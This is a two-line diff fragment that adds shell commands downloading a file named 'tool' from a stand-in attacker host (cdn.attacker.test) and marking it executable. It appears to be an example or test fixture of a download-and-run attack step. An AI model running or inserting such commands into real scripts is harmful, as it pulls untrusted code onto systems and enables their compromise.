@@ -1,0 +1,2 @@
+curl -o tool https://cdn.attacker.test/tool
+chmod +x tool
